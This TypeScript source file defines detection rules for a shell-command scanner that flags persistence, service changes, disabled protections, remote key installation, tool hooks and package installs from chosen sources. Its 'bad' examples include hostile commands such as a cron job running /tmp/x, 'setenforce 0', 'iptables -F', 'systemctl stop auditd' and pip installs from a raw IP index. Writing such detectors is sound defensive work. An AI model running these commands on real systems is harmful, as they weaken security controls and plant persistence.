import type { Rule } from '../rule.ts'
import { line, shell, verb, words } from './shell-ask.ts'

/** Not a name that the usual index knows, but an address, a file, a repository, or an index of somebody's choice. */
const chosenSource =
  /(^| )(https?:|ftp:|git\+|git:|ssh:|file:|github:|\/|~)|\S\.(whl|tgz|tar\.gz|tar\.bz2|deb|rpm|apk|pkg|gem)( |$)|--(index-url|extra-index-url|find-links|trusted-host|registry|repository|source|no-gpg-checks?|nogpgcheck|no-check-certificate|allow-unauthenticated|server|dangerous|devmode|force-yes|root)|(^| )-[if] ?(http|\/)|\u{fffc}/u

export const shellPersistenceRules: readonly Rule[] = [
  {
    id: 'shell/schedule',
    languages: shell,
    type: 'persistence',
    severity: 'high',
    cwe: 'CWE-506',
    description: 'Schedules commands that run when nobody looks.',
    recommendation: 'Ask the administrator to schedule it.',
    implies: ['persistence', 'run'],
    match: {
      on: 'call',
      names: words('crontab at batch atq atrm anacron systemd-run launchctl schtasks fcron incrontab cronnext'),
      when: call => {
        const all = line(call)
        if (call.name === 'crontab' && /(^| )-l/.test(all))
          return { severity: 'low', message: 'Looks at what is scheduled on this machine.' }
        if (
          call.name === 'atq' ||
          (call.name === 'at' && /^-l/.test(all)) ||
          (call.name === 'launchctl' && /^(list|print)/.test(all))
        )
          return { severity: 'medium', message: 'Looks at what is scheduled on this machine.' }
        return true
      },
    },
    examples: {
      bad: ['echo "* * * * * /tmp/x" | crontab -', 'echo id | at now', 'launchctl load ~/Library/LaunchAgents/x.plist'],
      good: ['echo crontab'],
    },
  },
  {
    id: 'shell/service',
    languages: shell,
    type: 'persistence',
    severity: 'high',
    cwe: 'CWE-506',
    description: 'Installs, starts or stops services of this machine.',
    recommendation: 'Leave services to the administrator.',
    implies: ['persistence', 'privilege'],
    match: {
      on: 'call',
      names: words(`systemctl service update-rc.d chkconfig rc-update rc-service initctl insserv start-stop-daemon sc
        svcadm supervisorctl loginctl busctl machinectl rc rcctl runsv sv`),
      when: call => {
        const all = line(call)
        if (call.name === 'rc') return false
        if (/^(--version|--help|-h)$/.test(all)) return false
        if (call.name === 'service' && /\.\.\//.test(all))
          return { severity: 'critical', message: 'Runs a program with the rights of a service.' }
        if (
          call.name === 'systemctl' &&
          /^(-{1,2}\S+ |-[pt] \S+ )*(status|is-active|is-enabled|is-failed|list-\S+|show|cat|get-default|help)?( |$)/.test(
            all,
          )
        )
          return { severity: /(^| )(is-|status|list|show|cat|get-default|help)/.test(all) ? 'low' : 'medium' }
        if (/^(loginctl|busctl|machinectl)$/.test(call.name))
          return { severity: /(^| )(list|--no-pager|--no-legend|show|status)/.test(all) ? 'low' : 'medium' }
        if (call.name === 'service' && /\bstatus$|^--status-all$/.test(all)) return { severity: 'low' }
        return true
      },
    },
    examples: {
      bad: [
        'systemctl enable --now evil.service',
        'systemctl --user daemon-reload',
        'service ../../bin/sh',
        'systemctl stop auditd',
      ],
      good: ['systemctl status nginx', 'systemctl is-active cron'],
    },
  },
  {
    id: 'shell/protection-off',
    languages: shell,
    type: 'system-access',
    severity: 'high',
    cwe: 'CWE-693',
    description:
      'Switches off or opens what protects this machine: firewall, mandatory access control, auditing, quarantine.',
    recommendation: 'Leave protection on.',
    implies: ['privilege'],
    match: {
      on: 'call',
      names: words(`setenforce ufw iptables ip6tables nft firewall-cmd aa-teardown aa-disable aa-complain
        apparmor_parser csrutil spctl xattr defaults fdesetup pfctl tmutil ebtables ipset iptables-restore
        setsebool semanage nvram kextcache softwareupdate networksetup scutil systemsetup fail2ban-client
        tccutil xhost gsettings pwpolicy log profiles sysrc freebsd-update`),
      when: call => {
        const all = line(call)
        if (
          /^(ip6?tables|ufw|nft|firewall-cmd|spctl|csrutil|pfctl|scutil|networksetup|systemsetup)$/.test(call.name) &&
          /^(-L|-S|-n|-nvL|-vnL|status|list|--list\S*|--status|--state|--get\S*|-s(?![a-z])|-get\S*|--dns|-list\S*)/.test(
            all,
          )
        )
          return { severity: 'low' }
        if (call.name === 'defaults') return /^write/.test(all) ? { severity: 'medium' } : false
        if (/^(pwpolicy|log|profiles)$/.test(call.name))
          return /^(-?(clear|set|e?nable|disable)|config\b|install|remove|renew|-[IRDF]\b)/.test(all)
        if (call.name === 'sysrc') return /=/.test(all)
        if (call.name === 'freebsd-update') return /\b(rollback|upgrade|install|IDS)\b/.test(all)
        if (call.name === 'xattr') return /(^| )-\w*[dc]/.test(all)
        if (call.name === 'xhost') return /(^| )\+/.test(all)
        if (call.name === 'gsettings')
          return /^set \S*(lockdown|screensaver|privacy|proxy)/.test(all) && { severity: 'medium' }
        return true
      },
    },
    examples: {
      bad: [
        'setenforce 0',
        'iptables -F',
        'ufw disable',
        'spctl --master-disable',
        'xattr -d com.apple.quarantine app',
        'xhost +',
        'pwpolicy -clearaccountpolicies',
        'sysrc sshd_enable=YES',
        'profiles install -path x.mobileconfig',
        'networksetup -setwebproxy Wi-Fi 192.0.2.1 8080',
      ],
      good: ['ufw status', 'iptables -L', 'xhost', 'networksetup -getinfo Wi-Fi', 'sysrc -a', 'log show --last 5m'],
    },
  },
  {
    id: 'shell/remote-key',
    languages: shell,
    type: 'persistence',
    severity: 'high',
    cwe: 'CWE-506',
    description: 'Installs a key on another machine.',
    recommendation: 'Let the person who owns the account do it.',
    implies: ['persistence', 'connect'],
    match: {
      on: 'call',
      names: ['ssh-copy-id', 'ssh-import-id', 'ssh-add'],
      when: call => (call.name === 'ssh-add' ? { severity: 'medium' } : true),
    },
    examples: { bad: ['ssh-copy-id user@host'], good: ['ssh-keygen -lf key.pub'] },
  },
  {
    id: 'shell/hook',
    languages: shell,
    type: 'persistence',
    severity: 'medium',
    cwe: 'CWE-506',
    description: 'Changes settings that make a tool run commands later.',
    recommendation: 'Leave the configuration of tools to their owner.',
    implies: ['persistence'],
    match: {
      on: 'call',
      names: ['git', 'npm', 'pip', 'hg'],
      when: call =>
        /(^| )config (\S+ )*(core\.(hooksPath|pager|editor|sshCommand|fsmonitor|askpass)|alias\.\S+ !|credential\.helper|include\.path|url\.|filter\.|diff\.external|script-shell|init-module|set registry|global\.index-url|user\.signingkey .*;)/i.test(
          line(call),
        ) && verb(call) === 'config',
    },
    examples: {
      bad: ['git config core.hooksPath /tmp/hooks', "git config alias.x '!sh'"],
      good: ['git config user.name me'],
    },
  },
  {
    id: 'shell/packages',
    languages: shell,
    type: 'system-access',
    severity: 'medium',
    cwe: 'CWE-829',
    description: 'Installs or removes software, whose scripts run with the rights of the installer.',
    recommendation: 'Use an image that has the packages.',
    implies: ['run', 'write', 'connect'],
    match: {
      on: 'call',
      names: words(`apt apt-get aptitude dpkg yum dnf rpm zypper pacman apk brew snap flatpak opkg pkg emerge pip pip3
        pipx npm yarn pnpm gem cargo go conda mamba easy_install composer cpan cpanm luarocks bundle alien
        installer uv poetry bun deno nix-env port choco winget bower corepack npx rustup add-apt-repository
        apt-add-repository yum-config-manager python perl dpkg-deb`),
      when: call => {
        if (call.name === 'python' && !/^(-\S+ )*-m (pip|easy_install)( |$)/.test(line(call))) return false
        if (call.name === 'perl') return /-MCPAN/.test(line(call))
        if (call.name === 'dpkg-deb') return /^(-x|--extract|-X|-R) \S+ \/( |$)/.test(line(call))
        if (call.name === 'alien') return /(^| )(-\w*i|--install)/.test(line(call))
        if (call.name === 'gem' && /^sources .*(-a|--add)/.test(line(call))) return true
        const all = call.name === 'python' ? line(call).replace(/^.*?-m \w+ /, '') : line(call)
        if (/^rpm$/.test(call.name) && /(^| )(-\w*q|--query|-\w*V|--verify)/.test(all)) return false
        if (/^(dpkg|rpm)$/.test(call.name))
          return /(^| )(-i|--install|-r|-P|--purge|--remove|-U\w*|-e|-ivh|-F\w*|--force\S*|--unpack|--configure)/.test(
            all,
          )
        if (call.name === 'pacman') return /(^| )-\w*[SRU]/.test(all)
        if (/repository$|^yum-config/.test(call.name)) return call.args.length > 0
        if (call.name === 'npx') return /(^| )(-y|--yes|--package|-p) |:\/\//.test(all) ? true : { severity: 'low' }
        const manages =
          /^(-\S+ )*(install|i|ci|add|remove|uninstall|purge|upgrade|dist-upgrade|full-upgrade|update|autoremove|get|link|exec|dlx|require|global|tool|create|localinstall|reinstall|erase|publish|changelog|run-script preinstall)( |$)/.test(
            all,
          ) &&
          !(call.name === 'go' && !/^(get|install)/.test(all)) &&
          !(call.name === 'deno' && !/^install/.test(all))
        if (!manages) return false
        return chosenSource.test(all) || /^(-\S+ )*(remove|uninstall|purge|autoremove|erase|publish)( |$)/.test(all)
          ? true
          : { severity: 'low', message: 'Installs software from the usual source.' }
      },
    },
    examples: {
      bad: [
        'pip install git+https://example.org/x.git',
        'pip install --index-url http://203.0.113.4/simple x',
        'npm install http://203.0.113.4/x.tgz',
        'python3 -m pip install http://203.0.113.4/x.tar.gz',
        'dpkg -i x.deb',
        'apt-get purge -y auditd',
      ],
      good: [
        'pip list',
        'python3 -m pip install --upgrade pip',
        'npm test',
        'dpkg -l',
        'cargo build',
        'pip install -r requirements.txt',
        'npm ci',
        'apt-get install -y --no-install-recommends git',
      ],
    },
  },
]
